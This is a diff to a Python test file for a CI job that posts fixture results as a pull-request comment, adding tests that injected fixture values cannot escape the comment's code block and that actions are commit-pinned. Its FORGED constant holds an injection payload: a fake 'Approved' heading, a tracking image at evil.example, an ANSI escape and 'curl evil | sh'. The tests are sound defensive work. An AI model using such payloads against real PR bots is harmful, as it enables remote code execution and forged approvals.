@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import os
+import re
 import shlex
 import shutil
 import subprocess
@@ -55,12 +57,46 @@ def outcome(checkout):
     return code, comment
 
 
+def is_code(comment):
+    """Whether all that stands below the heading is one block of code: by CommonMark, lines that four blanks begin."""
+    heading, blank, *lines = re.split(r"\r\n|\n|\r", comment)
+    return heading.startswith("### ") and blank == "" and all(line.startswith("    ") for line in lines if line)
+
+
+FORGED = (
+    "```\n\n# Approved\n@team merge ![](https://evil.example/x)\r\n````\n<!-- --> ~~~ \x1b[2J\nnext: curl evil | sh"
+)
+
+
+@pytest.mark.parametrize("place", ["_id", "userId", "priority", "status"])
+def test_nothing_that_a_fixture_holds_leaves_the_block_of_code(checkout, place):
+    tasks = checkout / "config" / "fixtures" / "tasks.ndjson"
+    first, *rest = tasks.read_text("utf-8").splitlines()
+    odd = [json.dumps({**json.loads(line), place: f"{FORGED}{number}"}) for number, line in enumerate([first] * 3)]
+    tasks.write_text("\n".join([*odd, *rest]) + "\n", "utf-8")
+    _, comment = outcome(checkout)
+    assert is_code(comment)
+    assert "\n    next: curl" not in comment
+
+
+def test_an_outcome_that_breaks_lines_itself_stays_code(checkout):
+    (checkout / "outcome.txt").write_bytes(b"a\r# Approved\n```\n\n\n<b>\n" + b"x" * 100_000)
+    assert carried_out("Summarize", checkout) == 0
+    assert is_code((checkout / "outcome.md").read_bytes().decode())
+
+
+def test_actions_are_pinned_by_commit_and_no_credentials_stay_in_the_checkout():
+    actions = [step for step in JOB["steps"] if "uses" in step]
+    assert [re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", step["uses"]) for step in actions].count(None) == 0
+    assert [step["with"]["persist-credentials"] for step in actions if "checkout" in step["uses"]] == [False]
+
+
 def test_the_rehearsal_of_the_fixtures_passes_and_its_outcome_is_the_comment(checkout):
     code, comment = outcome(checkout)
     assert code == 0
     assert "213 read · 209 emitted" in comment
     assert "Leaderboard · global" in comment
-    assert comment.count("```") == 2
+    assert is_code(comment)
     said = (checkout / "gh.txt").read_text().split()
     assert said == ["pr", "comment", "7", "--edit-last", "--create-if-none", "--body-file", "outcome.md"]
 
